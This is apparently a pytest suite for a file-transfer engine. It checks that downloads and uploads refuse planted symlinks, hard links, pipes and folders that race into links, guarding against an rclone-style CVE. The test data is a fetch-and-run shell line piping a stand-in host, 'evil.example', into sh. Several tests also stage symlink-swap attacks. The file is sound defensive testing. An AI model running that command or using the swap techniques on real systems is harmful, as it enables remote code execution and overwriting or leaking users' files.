"""Links that somebody put into the folder of a download: nothing outside of it is written, emptied or read.

The attack is real: CVE-2026-54572 (rclone) and its kin. A folder from an archive, a shared disk or a synced
folder holds a link, and whoever chooses the names in a bucket writes through it into somebody's home.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import sqlite3
import threading
from pathlib import Path
from typing import Any

import pytest

from storage_core.attributes import Attributes
from storage_core.base import Container, Download, Object, StorageDriver, Stored
from storage_core.body import BytesBody
from storage_core.drivers.memory import MemoryStorageDriver
from storage_core.errors import LibcloudError, LocalFileError
from storage_core.transfers import Conflict, DownloadSpec, Engine, State, UploadSpec
from tests.transfers.conftest import World, names, ref, row, wait_end, wait_for, wait_state

MIB = 1024 * 1024
LARGE = 40 * MIB  # fetched in ranges
HOSTILE = b"curl evil.example | sh\n"
ITEMS = 40  # ids that the next items of a new journal can have


@pytest.fixture
def outside(world: World) -> Path:
    """A folder of the same person that nobody chose."""
    folder = world.folder / "outside"
    (folder / "deep").mkdir(parents=True)
    (folder / "profile").write_text("mine")
    return folder


@pytest.fixture
def chosen(world: World) -> Path:
    """The folder that the download goes to."""
    folder = world.folder / "chosen"
    folder.mkdir()
    return folder


def put(box: Container, name: str, data: bytes = HOSTILE) -> None:
    box.driver.put_object(box, name, BytesBody(data), Attributes())


def untouched(outside: Path) -> bool:
    """Whether all is there as it was, and nothing else."""
    there = {str(path.relative_to(outside)) for path in outside.rglob("*")}
    return there == {"deep", "profile"} and (outside / "profile").read_text() == "mine"


def fetch(engine: Engine, chosen: Path, prefix: str, conflict: Conflict = Conflict.REPLACE) -> int:
    return engine.add(DownloadSpec((ref(prefix),), str(chosen)), conflict)


def part_names(world: World) -> list[str]:
    """What the part files of the next downloads will be called: whoever sees one knows the others."""
    world.stop(world.engine())
    with contextlib.closing(sqlite3.connect(world.journal)) as database:
        [[token]] = database.execute("SELECT token FROM about").fetchall()
    return [f".skyferry-{token}-{number}.skyferry-part" for number in range(1, ITEMS)]


@pytest.mark.parametrize("size", [0, 30, LARGE])
@pytest.mark.parametrize("link", ["tree", "tree/sub", "tree/sub/up"])
def test_no_folder_that_is_a_link_is_written_into(
    world: World, chosen: Path, outside: Path, link: str, size: int
) -> None:
    box = world.memory()
    put(box, "tree/sub/up/new", os.urandom(size))
    put(box, "tree/plain")
    place = chosen / link
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(outside, target_is_directory=True)
    engine = world.engine()
    job = fetch(engine, chosen, "tree/")
    end = wait_end(engine, job)
    assert untouched(outside)
    assert end.items_failed == (2 if link == "tree" else 1)
    reasons = [report.reason for report in engine.reports(job)]
    assert all(str(place) in reason and "link" in reason for reason in reasons), reasons
    assert (chosen / "tree" / "plain").exists() is (link != "tree")


def test_a_folders_marker_makes_no_folder_through_a_link(world: World, chosen: Path, outside: Path) -> None:
    box = world.memory()
    put(box, "tree/sub/empty/", b"")
    (chosen / "tree").mkdir()
    (chosen / "tree" / "sub").symlink_to(outside, target_is_directory=True)
    engine = world.engine()
    assert wait_end(engine, fetch(engine, chosen, "tree/")).items_failed == 1
    assert untouched(outside)


def test_the_chosen_folder_itself_may_be_reached_through_links(world: World, chosen: Path) -> None:
    box = world.memory()
    put(box, "tree/sub/new")
    (world.folder / "way").symlink_to(chosen, target_is_directory=True)
    engine = world.engine()
    assert wait_end(engine, fetch(engine, world.folder / "way", "tree/")).state is State.DONE
    assert (chosen / "tree" / "sub" / "new").read_bytes() == HOSTILE


@pytest.mark.parametrize("size", [30, LARGE])
@pytest.mark.parametrize("kind", ["link", "dangling", "hard link", "pipe"])
def test_what_was_put_where_the_part_file_will_be_is_never_written_to(
    world: World, chosen: Path, outside: Path, kind: str, size: int
) -> None:
    box = world.memory()
    data = os.urandom(size)
    put(box, "new", data)
    for name in part_names(world):
        planted = chosen / name
        if kind == "pipe":
            os.mkfifo(planted)
        elif kind == "hard link":
            os.link(outside / "profile", planted)
        else:
            planted.symlink_to(outside / ("profile" if kind == "link" else "created"))
    engine = world.engine()
    assert wait_end(engine, fetch(engine, chosen, "new")).state is State.DONE
    assert untouched(outside)
    assert (chosen / "new").read_bytes() == data
    assert not (chosen / "new").is_symlink()


@pytest.mark.parametrize("kind", ["link", "hard link", "pipe"])
def test_a_part_file_that_was_exchanged_during_a_pause_is_not_gone_on_with(
    world: World, chosen: Path, outside: Path, kind: str
) -> None:
    held = Held()
    world.drivers["m"] = held
    data = os.urandom(LARGE)
    put(world.memory(), "new", data)
    engine = world.engine()
    job = fetch(engine, chosen, "new")
    assert held.reached.wait(30)
    engine.pause(job)
    wait_state(engine, job, State.PAUSED)
    world.stop(engine)
    [part] = chosen.glob(".skyferry-*.skyferry-part")
    part.unlink()
    if kind == "link":
        part.symlink_to(outside / "profile")
    elif kind == "hard link":
        os.link(outside / "profile", part)
    else:
        os.mkfifo(part)
    held.gate.set()
    engine = world.engine()
    engine.resume(job)
    assert wait_end(engine, job).state is State.DONE
    assert untouched(outside)
    assert (chosen / "new").read_bytes() == data


class Held(MemoryStorageDriver):
    """Gives the first range, and the others when the gate opens."""

    def __init__(self) -> None:
        super().__init__()
        self.gate, self.reached = threading.Event(), threading.Event()

    def _open(self, obj: Object, start: int, end: int | None) -> Download:
        if start and not self.gate.is_set():
            self.reached.set()
            raise LocalFileError("not yet", path="")
        return super()._open(obj, start, end)


def test_a_folder_that_turns_into_a_link_again_and_again_leads_nowhere(
    world: World, chosen: Path, outside: Path
) -> None:
    box = world.memory()
    for number in range(600):
        put(box, f"flip/x{number}")
    flip, aside = chosen / "flip", chosen / "aside"
    flip.mkdir()
    stop = threading.Event()

    def swap() -> None:
        while not stop.is_set():
            for step in (
                lambda: flip.rename(aside),
                lambda: flip.symlink_to(outside, target_is_directory=True),
                lambda: flip.unlink(),
                lambda: aside.rename(flip),
            ):
                with contextlib.suppress(OSError):  # the engine makes a folder of this name, too
                    step()
            if aside.exists():
                shutil.rmtree(aside, ignore_errors=True)

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        engine = world.engine()
        end = wait_end(engine, fetch(engine, chosen, "flip/"))
    finally:
        stop.set()
        thread.join()
    assert untouched(outside)
    assert end.items_total == 600


# -- and the other way --


class Gate(MemoryStorageDriver):
    """Takes the first object, and keeps whoever brings it until the gate is open."""

    def __init__(self) -> None:
        super().__init__()
        self.gate, self.reached = threading.Event(), threading.Event()

    def _put(self, *arguments: Any, **named: Any) -> Stored:
        self.reached.set()
        assert self.gate.wait(30)
        return super()._put(*arguments, **named)


@pytest.mark.parametrize("size", [30, LARGE])
def test_a_folder_that_becomes_a_link_after_it_was_listed_sends_nothing_from_elsewhere(
    world: World, outside: Path, size: int
) -> None:
    """Somebody exchanges a part of a shared folder that was not sent yet for a way to my keys."""
    secret = b"-----BEGIN PRIVATE KEY-----" + os.urandom(size)
    (outside / "profile").write_bytes(secret)
    world.file("tree/0 first", b"first")
    world.file("tree/sub/deep/profile", b"harmless")
    gate = Gate()
    world.drivers["m"] = gate
    box = world.memory()
    engine = world.engine(workers=1)
    job = engine.add(UploadSpec((str(world.folder / "files" / "tree"),), ref("")))
    assert gate.reached.wait(30)
    deep = world.folder / "files" / "tree" / "sub" / "deep"
    wait_for(lambda: row(engine, job).items_total == 2, what="both files to be planned")
    shutil.rmtree(deep)
    deep.symlink_to(outside, target_is_directory=True)
    gate.gate.set()
    end = wait_end(engine, job)
    assert (end.items_done, end.items_failed) == (1, 1)
    assert names(box) == {"tree/0 first"}


def test_what_lies_behind_a_link_on_the_way_to_the_chosen_folder_is_sent(world: World, outside: Path) -> None:
    box = world.memory()
    (world.folder / "way").symlink_to(outside, target_is_directory=True)
    engine = world.engine()
    job = engine.add(UploadSpec((str(world.folder / "way" / "profile"),), ref("")))
    assert wait_end(engine, job).state is State.DONE
    assert names(box) == {"profile"}


# -- the library alone --


def test_a_download_by_the_library_follows_no_link_below_its_folder(
    chosen: Path, outside: Path, world: World
) -> None:
    box = world.memory()
    put(box, "tree/sub/new")
    (chosen / "tree").mkdir()
    (chosen / "tree" / "sub").symlink_to(outside, target_is_directory=True)
    obj = box.driver.get_object("box", "tree/sub/new")
    with pytest.raises(LocalFileError, match="link"):
        obj.download(str(chosen))
    assert untouched(outside)


def test_the_librarys_downloads_lead_nowhere_while_a_folder_turns_into_a_link(
    chosen: Path, outside: Path, world: World
) -> None:
    box = world.memory()
    put(box, "flip/new")
    obj = box.driver.get_object("box", "flip/new")
    flip, aside = chosen / "flip", chosen / "aside"
    flip.mkdir()
    stop = threading.Event()

    def swap() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError):
                flip.rename(aside)
                flip.symlink_to(outside, target_is_directory=True)
                flip.unlink()
                aside.rename(flip)
            if aside.exists() and flip.exists():
                shutil.rmtree(aside, ignore_errors=True)

    thread = threading.Thread(target=swap)
    thread.start()
    met = {"done": 0, "refused": 0}
    try:
        for _ in range(3000):
            try:
                met["done"] += obj.download(str(chosen), overwrite_existing=True)
            except LibcloudError:
                met["refused"] += 1
    finally:
        stop.set()
        thread.join()
    assert untouched(outside)
    assert min(met.values()) > 0, met


def test_an_existing_link_under_the_final_name_is_replaced_and_not_followed(
    chosen: Path, outside: Path, world: World
) -> None:
    box = world.memory()
    put(box, "new")
    (chosen / "new").symlink_to(outside / "profile")
    driver: StorageDriver = box.driver
    assert driver.get_object("box", "new").download(str(chosen), overwrite_existing=True)
    assert untouched(outside)
    assert not (chosen / "new").is_symlink()
    (chosen / "new").unlink()
    (chosen / "new").symlink_to(outside / "profile")
    engine = world.engine()
    assert wait_end(engine, fetch(engine, chosen, "new")).state is State.DONE
    assert untouched(outside)
    assert (chosen / "new").read_bytes() == HOSTILE
